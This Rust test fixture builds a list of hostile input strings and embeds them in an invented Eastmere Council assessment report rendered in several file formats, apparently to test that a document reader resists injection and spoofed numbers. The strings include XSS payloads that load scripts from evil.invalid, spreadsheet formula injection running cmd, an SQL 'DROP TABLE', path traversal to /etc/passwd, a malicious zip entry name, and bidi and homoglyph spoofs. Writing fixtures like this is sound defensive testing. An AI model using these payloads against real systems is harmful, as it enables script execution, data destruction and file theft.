//! Strings made to hurt, numbers made to deceive, and an invented report with them in files of every format.

#![allow(
    clippy::format_push_string,
    clippy::format_collect,
    reason = "markup is put together as it reads"
)]

use super::office::{docx, odt, zip};

/// Sixty of a piece.
macro_rules! sixty {
    ($it:literal) => {
        concat!(
            $it, $it, $it, $it, $it, $it, $it, $it, $it, $it, $it, $it, $it, $it, $it, $it, $it,
            $it, $it, $it, $it, $it, $it, $it, $it, $it, $it, $it, $it, $it, $it, $it, $it, $it,
            $it, $it, $it, $it, $it, $it, $it, $it, $it, $it, $it, $it, $it, $it, $it, $it, $it,
            $it, $it, $it, $it, $it, $it, $it, $it, $it
        )
    };
}

const LONG_WORD: &str = sixty!("wwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwww");
const DEEP_TAGS: &str = sixty!("<b><b><b><b><b>");
const BRACKETS: &str = sixty!("((((((((");
const OVERRIDES: &str = sixty!("\u{202E}\u{202E}\u{202E}\u{202E}\u{202E}");
const AMPERSANDS: &str = sixty!("&&&&&&&&");
const FLOOD: &str = concat!("Z", sixty!("\u{300}\u{316}\u{327}\u{489}\u{334}"));

/// Strings by what they try. A script that runs says so in `window.__ran`, or asks the reader something.
pub(crate) const GROUPS: [(&str, &[&str]); 17] = [
    (
        "script and markup",
        &[
            "<script>window.__ran=1</script>",
            "<SCRIPT SRC=//evil.invalid/x.js></SCRIPT>",
            "<scr<script>ipt>window.__ran=2</scr</script>ipt>",
            "</title></textarea></style><script>window.__ran=3</script>",
            "<base href='//evil.invalid/'>",
            "<meta http-equiv=refresh content='0;url=//evil.invalid/'>",
            "<iframe srcdoc=\"<script>parent.__ran=4</script>\"></iframe>",
            "<object data='javascript:window.__ran=5'></object>",
            "<link rel=stylesheet href=//evil.invalid/a.css>",
            "<form action=//evil.invalid><input name=q autofocus></form>",
            "<template><script>window.__ran=6</script></template>",
            "<dialog open>Your session ended</dialog>",
        ],
    ),
    (
        "event handlers",
        &[
            "<img src=x onerror=window.__ran=10>",
            "<body onload=window.__ran=11>",
            "<details open ontoggle=window.__ran=12>x</details>",
            "<input onfocus=window.__ran=13 autofocus>",
            "\" onmouseover=\"window.__ran=14\" x=\"",
            "' autofocus onfocus='alert(15)' '",
            "<video><source onerror=\"confirm(16)\"></video>",
            "<marquee onstart=prompt(17)>x</marquee>",
        ],
    ),
    (
        "addresses",
        &[
            "javascript:window.__ran=20",
            "<a href=\"javascript:alert(21)\">report</a>",
            "<a href=\"jav&#x09;ascript:window.__ran=22\">x</a>",
            "data:text/html,<script>window.__ran=23</script>",
            "vbscript:msgbox(24)",
            "<a href='blob:https://evil.invalid/1'>x</a>",
            "<a href='//evil.invalid/login' target=_top>CQC</a>",
            "https://cqc.org.uk@evil.invalid/report",
            "https://cqc.org.uk\u{2044}report.evil.invalid/",
            "#/summary?open=javascript:alert(25)",
        ],
    ),
    (
        "styles",
        &[
            "<style>body{display:none}*{background:url(//evil.invalid/b)}</style>",
            "<p style=\"background:url(javascript:window.__ran=30)\">x</p>",
            "<div style='position:fixed;inset:0;background:red'>x</div>",
            "}</style>@import '//evil.invalid/c.css';",
            "expression(window.__ran=31)",
        ],
    ),
    (
        "foreign content",
        &[
            "<svg onload=window.__ran=40>",
            "<svg><script href=data:,window.__ran=41 /></svg>",
            "<svg><animate onbegin=window.__ran=42 attributeName=x dur=1s>",
            "<svg><use href='data:image/svg+xml,<svg id=x/>#x'/></svg>",
            "<math><mtext><mglyph><style><img src=x onerror=window.__ran=43></style></mglyph></mtext></math>",
            "<svg><foreignObject><iframe src=javascript:window.__ran=44></iframe></foreignObject></svg>",
        ],
    ),
    (
        "markup that changes when it is read twice",
        &[
            "<noscript><p title=\"</noscript><img src=x onerror=window.__ran=50>\">",
            "<svg></p><style><a id=\"</style><img src=1 onerror=window.__ran=51>\">",
            "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.__ran=52>",
            "<!--><img src=x onerror=window.__ran=53>-->",
            "<listing>&lt;img src=x onerror=window.__ran=54&gt;</listing>",
        ],
    ),
    (
        "templates and entities",
        &[
            "{{constructor.constructor('window.__ran=60')()}}",
            "${window.__ran=61}",
            "<%= 7*7 %>",
            "&lt;script&gt;window.__ran=62&lt;/script&gt;",
            "&#60;script&#62;window.__ran=63&#60;/script&#62;",
            "&amp;lt;b&amp;gt;",
            "&notanentity; &#0; &#x110000;",
            "\\u003cscript\\u003ewindow.__ran=64",
        ],
    ),
    (
        "ends of other languages",
        &[
            "</script><script>window.__ran=70</script>",
            "]]><b>x</b>",
            "--><b>x</b>",
            "*/window.__ran=71/*",
            "';window.__ran=72;//",
            "\"}};window.__ran=73;//",
            "%3Cscript%3Ewindow.__ran=74%3C/script%3E",
            "%00%0d%0aSet-Cookie:x=y",
            "'; DROP TABLE reports; --",
        ],
    ),
    (
        "control characters",
        &[
            "a\0b",
            "a\u{8}\u{8}\u{8}b",
            "a\u{1B}[31mred\u{1B}[0m",
            "a\u{7F}\u{9B}b",
            "a\u{FFFE}\u{FFFF}b",
            "line\u{B}feed\u{C}and\u{85}more\u{2028}again\u{2029}",
        ],
    ),
    (
        "direction",
        &[
            "\u{202E}esrever",
            "\u{202D}forced",
            "\u{202B}right to left",
            "\u{202A}left to right\u{202C}",
            "\u{2067}isolated",
            "\u{2066}isolated\u{2069}",
            "\u{2068}first strong",
            "\u{2069}\u{2069}\u{202C}\u{202C} closed too often",
            "left\u{200E}mark",
            "right\u{200F}mark",
            "Arabic\u{61C}mark",
            "\u{202E}\u{2066}\u{202B} nested \u{202C}\u{2069}",
            "\u{5E9}\u{5DC}\u{5D5}\u{5DD} \u{645}\u{631}\u{62D}\u{628}\u{627}",
        ],
    ),
    (
        "look-alike letters",
        &[
            "\u{405}taffordshire",
            "C\u{3BF}unc\u{456}l",
            "\u{FF33}\u{FF43}\u{FF4F}\u{FF52}\u{FF45}",
            "\u{1D412}\u{1D41C}\u{1D428}\u{1D42B}\u{1D41E}",
            "\u{13DF}\u{13F3}\u{13DF}",
            "rn for m, l for I",
        ],
    ),
    (
        "hidden in words",
        &[
            "saf\u{200B}eguarding", "saf\u{200C}eguarding", "saf\u{200D}eguarding",
            "saf\u{2060}eguarding", "saf\u{FEFF}eguarding", "saf\u{AD}eguarding",
            "saf\u{34F}eguarding", "saf\u{180E}eguarding", "saf\u{3164}eguarding",
            "saf\u{2063}eguarding",
        ],
    ),
    (
        "tags, selectors and marks",
        &[
            "tag\u{E0061}\u{E0062}\u{E0063}",
            "\u{E0001}\u{E0065}",
            "a\u{FE0E}\u{FE0F}b",
            "a\u{E0100}b",
            FLOOD,
            "\u{300} alone",
            "\u{1F469}\u{200D}\u{1F469}\u{200D}\u{1F467}\u{200D}\u{1F466}",
        ],
    ),
    (
        "formulas",
        &[
            "=HYPERLINK(\"//evil.invalid\",\"x\")",
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(A1:A9)",
            "\t=1+1",
            "\r=1+1",
            "\u{FF1D}1+1",
            "=1+1\";=2+2;\"",
        ],
    ),
    (
        "names of objects",
        &[
            "__proto__", "constructor", "prototype", "hasOwnProperty", "toString", "undefined",
            "NaN", "null", "true", "[object Object]",
        ],
    ),
    (
        "paths and addresses of mail",
        &[
            "../../../etc/passwd", "..\\..\\windows\\win.ini", "C:\\report.txt",
            "\\\\server\\share\\x", "file:///etc/passwd", "name\u{202E}txt.exe", "CON.txt",
            "mailto:x@evil.invalid?body=y",
        ],
    ),
    (
        "sheer length",
        &[LONG_WORD, DEEP_TAGS, BRACKETS, OVERRIDES, AMPERSANDS],
    ),
];

/// Numbers as they are stored, which look like others or may do so. None of them may be read.
pub(crate) const NUMBERS: [&str; 40] = [
    "8\u{200B}2%", "8\u{200C}2%", "8\u{200D}2%", "8\u{2060}2%", "8\u{FEFF}2%", "8\u{AD}2%",
    "8\u{34F}2%", "8\u{2063}2%", "8\u{180E}2%", "8\u{FE0F}2%", "8\u{E0032}2%", "8\u{200E}2%",
    "8\u{3164}2%", "82\u{200D}%", "\u{202E}%28\u{202C}", "\u{202E}82%\u{202C}",
    "\u{202D}82%\u{202C}", "\u{202B}82%\u{202C}", "\u{2067}82%\u{2069}", "\u{2068}82%\u{2069}",
    "\u{200F}82%", "\u{61C}82%", "\u{202E}82%", "82\u{336}%", "8\u{335}2%", "82\u{20E3}%",
    "\u{FF18}\u{FF12}%", "8\u{FF12}%", "\u{668}\u{662}%", "\u{96E}\u{968}%", "\u{1D7D6}\u{1D7D0}%",
    "8\u{41E}%", "82\u{FF05}", "82\u{66A}", "82\u{2030}", "8\u{B7}2%", "8\u{2024}2%", "8\u{66B}2%",
    "8\u{FF0C}200%", "82\u{2044}100",
];

/// All strings, one after the other.
pub(crate) fn all() -> impl Iterator<Item = &'static str> {
    GROUPS.iter().flat_map(|it| it.1.iter().copied())
}

/// A piece of a report.
#[derive(Clone)]
pub(crate) enum Piece {
    Title(String),
    Heading(String),
    Paragraph(String),
    Item(String),
    Row(Vec<String>),
}

use Piece::{Heading, Item, Paragraph, Row, Title};

/// An invented report with a string at every place that a report has.
pub(crate) fn report(it: &str) -> Vec<Piece> {
    let mut out = vec![
        Title("Eastmere Council: local authority assessment".to_owned()),
        Paragraph("Published: 14 May 2025".to_owned()),
        Heading("Assessing needs".to_owned()),
        Paragraph("Score: 3".to_owned()),
        Heading("Key findings for this quality statement".to_owned()),
    ];
    out.extend(findings(it));
    out.extend([
        Heading("Safeguarding".to_owned()),
        Paragraph("Score: 2".to_owned()),
        Heading("Key findings for this quality statement".to_owned()),
        Paragraph("The staff were trained.".to_owned()),
    ]);
    out
}

/// The findings of one topic with a string in a heading, in sentences beside numbers, alone, in a list and in a table.
pub(crate) fn findings(it: &str) -> Vec<Piece> {
    vec![
        Heading(format!("Waiting {it} lists")),
        Paragraph(format!(
            "In Eastmere, 64.8% of people {it} were satisfied with their care, above the England average of 61.2%."
        )),
        Paragraph(format!(
            "About 1,204 people were waiting. {it}. The wait was 9 weeks."
        )),
        Paragraph(it.to_owned()),
        Paragraph(format!(
            "{it} shows that 1,180 of the 5,640 people (24%) were waiting."
        )),
        Item(format!("{it} in 45 homes")),
        Item("A second item of the list.".to_owned()),
        Row(vec!["Team".to_owned(), "Vacancies".to_owned()]),
        Row(vec![it.to_owned(), "17%".to_owned()]),
        Paragraph("The team had 37 members of staff.".to_owned()),
    ]
}

/// A report with one number that deceives, between sentences that must not come to stand side by side.
pub(crate) fn deceiving(number: &str) -> Vec<Piece> {
    let mut out = report("quite");
    out.truncate(5);
    out.push(Paragraph(format!(
        "In Eastmere, 55% of staff had replied. In Eastmere, {number} of people were satisfied with their care. \
         This was above the England average of 61.2%. The team had 37 members of staff."
    )));
    out
}

/// A file's ending and its bytes, for each format.
pub(crate) fn files(report: &[Piece]) -> Vec<(&'static str, Vec<u8>)> {
    let page = html(report);
    vec![
        ("txt", text(report).into_bytes()),
        ("html", page.clone().into_bytes()),
        ("mhtml", mhtml(&page)),
        ("docx", word(report)),
        ("odt", open_document(report)),
        (
            "zip",
            zip(&[(
                "../pages/<img src=x onerror=window.__ran=90>.html",
                page.as_bytes(),
            )]),
        ),
        ("pdf", pdf(report)),
    ]
}

pub(crate) fn text(report: &[Piece]) -> String {
    let lines = report.iter().map(|it| match it {
        Item(it) => format!("- {it}\n"),
        Row(cells) => format!("{}\n", cells.join("\t")),
        Title(it) | Heading(it) | Paragraph(it) => format!("\n{it}\n\n"),
    });
    lines.collect()
}

/// Text in XML and HTML. What XML has no way to write is left out.
fn escaped(it: &str, is_xml: bool) -> String {
    let mut out = String::new();
    for it in it.chars() {
        match it {
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '&' => out.push_str("&amp;"),
            '"' => out.push_str("&quot;"),
            '\0'..='\u{8}' | '\u{B}' | '\u{C}' | '\u{E}'..='\u{1F}' | '\u{FFFE}' | '\u{FFFF}'
                if is_xml => {}
            it => out.push(it),
        }
    }
    out
}

fn html(report: &[Piece]) -> String {
    let mut out = String::from(
        "<!DOCTYPE html><html lang=en><meta charset=utf-8><title>Report</title><body><main>",
    );
    for it in report {
        match it {
            Title(it) => out += &format!("<h1>{}</h1>", escaped(it, false)),
            Heading(it) => out += &format!("<h2>{}</h2>", escaped(it, false)),
            Paragraph(it) => out += &format!("<p>{}</p>", escaped(it, false)),
            Item(it) => out += &format!("<ul><li>{}</li></ul>", escaped(it, false)),
            Row(cells) => {
                let cells: String = cells
                    .iter()
                    .map(|it| format!("<td>{}</td>", escaped(it, false)))
                    .collect();
                out += &format!("<table><tr>{cells}</tr></table>");
            }
        }
    }
    out + "</main></body></html>"
}

fn mhtml(page: &str) -> Vec<u8> {
    let mut coded = String::new();
    for (n, byte) in page.bytes().enumerate() {
        coded += &format!("={byte:02X}");
        if n % 24 == 23 {
            coded += "=\r\n";
        }
    }
    format!(
        "From: <Saved by Blink>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related;\r\n\ttype=\"text/html\";\r\n\t\
         boundary=\"----Cut----\"\r\n\r\n\r\n------Cut----\r\nContent-Type: text/html; charset=utf-8\r\n\
         Content-Transfer-Encoding: quoted-printable\r\n\r\n{coded}\r\n------Cut------\r\n"
    )
    .into_bytes()
}

fn word(report: &[Piece]) -> Vec<u8> {
    let p = |style: &str, it: &str| {
        format!(
            "<w:p><w:pPr><w:pStyle w:val='{style}'/></w:pPr><w:r><w:t xml:space='preserve'>{}</w:t></w:r></w:p>",
            escaped(it, true)
        )
    };
    let body: String = report
        .iter()
        .map(|it| match it {
            Title(it) => p("T", it),
            Heading(it) => p("berschrift1", it),
            Paragraph(it) => p("", it),
            Item(it) => p("LB", it),
            Row(cells) => {
                let cells: String = cells
                    .iter()
                    .map(|it| format!("<w:tc>{}</w:tc>", p("", it)))
                    .collect();
                format!("<w:tbl><w:tr>{cells}</w:tr></w:tbl>")
            }
        })
        .collect();
    docx(&body, &[])
}

fn open_document(report: &[Piece]) -> Vec<u8> {
    let p = |it: &str| format!("<text:p>{}</text:p>", escaped(it, true));
    let text: String = report
        .iter()
        .map(|it| match it {
            Title(it) | Heading(it) => format!(
                "<text:h text:outline-level='1'>{}</text:h>",
                escaped(it, true)
            ),
            Paragraph(it) => p(it),
            Item(it) => format!(
                "<text:list><text:list-item>{}</text:list-item></text:list>",
                p(it)
            ),
            Row(cells) => {
                let cells: String = cells
                    .iter()
                    .map(|it| format!("<table:table-cell>{}</table:table-cell>", p(it)))
                    .collect();
                format!("<table:table><table:table-row>{cells}</table:table-row></table:table>")
            }
        })
        .collect();
    odt(&text, "")
}

/// A PDF of a line a piece, every character drawn by a code of its own, which the file says the letter of. Characters
/// that are not seen have no width.
fn pdf(report: &[Piece]) -> Vec<u8> {
    let lines: Vec<(String, u32)> = report
        .iter()
        .map(|it| match it {
            Title(it) => (it.clone(), 20),
            Heading(it) => (it.clone(), 16),
            Paragraph(it) => (it.clone(), 11),
            Item(it) => (format!("\u{2022} {it}"), 11),
            Row(cells) => (cells.join(" "), 11),
        })
        .collect();
    let mut letters: Vec<char> = lines.iter().flat_map(|it| it.0.chars()).collect();
    letters.sort_unstable();
    letters.dedup();
    let code = |it: char| letters.binary_search(&it).unwrap_or(0) + 1;
    let (mut drawn, mut y) = (String::new(), 2400);
    for (line, size) in &lines {
        let codes: String = line.chars().map(|it| format!("{:04X}", code(it))).collect();
        drawn += &format!("BT /F {size} Tf 1 0 0 1 40 {y} Tm <{codes}> Tj ET\n");
        y -= 60;
    }
    let (mut meant, mut widths) = (String::new(), String::new());
    for it in &letters {
        let units: String = it
            .encode_utf16(&mut [0; 2])
            .iter()
            .map(|it| format!("{it:04X}"))
            .collect();
        meant += &format!("1 beginbfchar\n<{:04X}> <{units}>\nendbfchar\n", code(*it));
        let width = if candour::text::doubt::is_hidden(*it) {
            0
        } else {
            500
        };
        widths += &format!("{} [{width}] ", code(*it));
    }
    let map = format!(
        "/CIDInit /ProcSet findresource begin\n12 dict begin\nbegincmap\n/CMapName /A def\n/CMapType 2 def\n\
         1 begincodespacerange\n<0000> <FFFF>\nendcodespacerange\n{meant}endcmap\nend\nend\n"
    );
    let stream = |it: &str| format!("<< /Length {} >>\nstream\n{it}\nendstream", it.len());
    let objects = [
        "<< /Type /Catalog /Pages 2 0 R >>".to_owned(),
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_owned(),
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 20000 2500] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> >> >>"
            .to_owned(),
        stream(&drawn),
        "<< /Type /Font /Subtype /Type0 /BaseFont /Arial /Encoding /Identity-H /DescendantFonts [6 0 R] /ToUnicode 7 0 R >>"
            .to_owned(),
        format!(
            "<< /Type /Font /Subtype /CIDFontType2 /BaseFont /Arial /CIDSystemInfo << /Registry (Adobe) /Ordering \
             (Identity) /Supplement 0 >> /DW 500 /W [{widths}] >>"
        ),
        stream(&map),
    ];
    let mut out = String::from("%PDF-1.7\n");
    for (n, it) in objects.iter().enumerate() {
        out += &format!("{} 0 obj\n{it}\nendobj\n", n + 1);
    }
    (out + "trailer << /Root 1 0 R >>\n%%EOF\n").into_bytes()
}
